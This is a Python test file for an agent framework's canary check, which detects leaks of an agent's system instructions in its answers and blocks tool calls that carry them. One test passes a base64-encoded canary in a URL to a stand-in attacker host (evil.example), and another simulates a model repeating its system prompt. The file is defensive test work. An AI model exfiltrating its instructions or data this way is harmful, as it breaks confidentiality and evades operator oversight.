"""A leak of an agent's instructions is told to its reader and to the administrators, and no tool
is handed any of it."""

import base64
from dataclasses import replace

import pytest
from asgiref.sync import async_to_sync

from agents.asking import chat_request
from agents.authority.deciding import decide
from agents.authority.types import RunState
from agents.authority.watching import alarms, canary_of, watched
from agents.loop import run_agent
from agents.tools.types import Effect, Tool, ToolCalling, ToolOutput
from agents.types import AgentSpec, AgentTask, TextDelta
from gateway.types import Completed, TokenUsage
from security.ids import new_id
from security.models import AuditEntry

pytestmark = pytest.mark.django_db(transaction=True)


async def _done(calling, arguments):
    return ToolOutput("done")


LOOK = Tool("look", "Look", "Looks.", Effect.READS, {}, _done)


@pytest.fixture
def task(alice) -> AgentTask:
    return AgentTask(
        AgentSpec(name="Clerk", instructions="Be kind.", max_passages=0), alice, "Who?"
    )


async def _listen(task, pieces):
    async def said():
        for piece in pieces:
            yield TextDelta(piece)
        yield Completed("stop", TokenUsage(), "m", "e", 1, 1)

    notices: list[str] = []
    heard = [item async for item in watched(task, said(), notices)]
    return "".join(item.text for item in heard[:-1]), notices


def listen(task, text, size=3):
    pieces = [text[n : n + size] for n in range(0, len(text), size)]
    return async_to_sync(_listen)(task, pieces)


def test_the_word_is_in_the_system_message_where_anything_could_leak_and_nowhere_else(task):
    bare = replace(task, agent=AgentSpec(name="Clerk"))
    for one, tools in ((task, [LOOK]), (task, []), (bare, [LOOK])):
        first, *others = chat_request(one, [], (), tools=tools).messages
        assert canary_of(one) in first.content
        assert all(canary_of(one) not in message.content for message in others)
    ordered = replace(task, orders=("Be kind.",))  # by a program, to an agent without any
    for one in (bare, ordered):
        assert canary_of(one) not in str(chat_request(one, [], ()).messages)


def test_s48_an_answer_without_tools_is_watched_too(task):
    async def chat(request):
        yield TextDelta(f"I was told: {request.messages[0].content}")
        yield Completed("stop", TokenUsage(), "m", "e", 1, 1)

    async def nobody(*_):
        return ()

    async def nothing(_task):
        return None

    async def run():
        outside = {"routes": nobody, "approved": nothing, "rules": nobody}
        return [step async for step in run_agent(task, chat=chat, **outside)]

    *_steps, last = async_to_sync(run)()
    assert "administrators" in last.notice
    assert AuditEntry.objects.get(act="canary.seen").detail["where"] == "answer"


def test_s48_an_answer_that_holds_it_is_told_once(task):
    before = alarms.labels("answer")._value.get()
    text = f"I was told: {'-'.join(canary_of(task))}. Again: {canary_of(task)}."
    said, notices = listen(task, text)
    assert (said, len(notices)) == (text, 1)
    assert "administrators" in notices[0]
    entry = AuditEntry.objects.get(act="canary.seen")
    assert (entry.title, entry.detail["where"]) == ("Clerk", "answer")
    assert alarms.labels("answer")._value.get() == before + 1
    assert canary_of(task) not in str(entry.detail)


def test_an_answer_without_it_costs_nothing(task, django_assert_num_queries):
    with django_assert_num_queries(0):
        assert listen(task, "The ferry leaves at noon. " * 40)[1] == []


def test_s48_no_call_is_made_with_it(task):
    word = base64.b64encode(f"x{canary_of(task)}".encode()).decode()
    state, call = RunState(new_id()), ToolCalling(task, "call_1")
    for arguments in ({"address": f"https://evil.example/?q={word}"}, {"a": {"b": [word]}}):
        verdict = async_to_sync(decide)(call, LOOK, arguments, state)
        assert (verdict.kind, "instructions" in verdict.reason) == ("deny", True)
    assert async_to_sync(decide)(call, LOOK, {"address": "ok"}, state).kind == "allow"
    assert AuditEntry.objects.filter(act="canary.seen").count() == 2
